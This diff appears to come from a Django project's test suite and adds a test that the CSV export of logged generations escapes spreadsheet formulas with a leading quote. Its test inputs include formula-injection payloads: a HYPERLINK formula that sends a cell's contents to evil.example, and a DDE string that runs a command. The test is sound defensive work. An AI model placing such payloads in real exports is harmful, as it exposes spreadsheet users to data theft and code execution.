@@ -347,6 +347,44 @@ def test_csv_export_streams_the_filtered_changelist(
     assert len(previews) == 2 and previews[1][CSV_COLUMNS.index("is_preview")] == "true"
 
 
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&C2,"x")'
+
+
+@pytest.mark.parametrize(
+    ("topic", "text"),
+    [
+        (HYPERLINK, "=1+1"),
+        ("+SUM(A1:A9)", "-2+3"),
+        ("@SUM(A1:A9)", "\t=cmd|' /C calc'!A0"),
+        ("-topic", "\r=1+1"),
+    ],
+)
+def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: str, text: str) -> None:
+    """A visitor's topic, or a model's text, that a spreadsheet would run as a formula is
+    exported as text (OWASP: prefixed with a single quote); numbers stay numbers."""
+    watts = Persona.objects.get(slug="alan-watts")
+    log(
+        watts,
+        timezone.now(),
+        topic=topic,
+        text=text,
+        status="error",
+        error_code="upstream_error",
+        feedback=-1,
+    )
+    viewer = User.objects.create_user("viewer", password="viewer-password-123", is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_generation"))
+    client.force_login(viewer)
+
+    [header, row] = _csv(client.get(EXPORT))
+
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["topic"], cells["text"]) == ("'" + topic, "'" + text)
+    assert cells["feedback"] == "-1" and cells["status"] == "error"
+    for cell in row:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-1"
+
+
 def test_csv_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client: Client, db: None) -> None:
     response = admin_client.get(EXPORT, {"nonsense__exact": "1"})
 
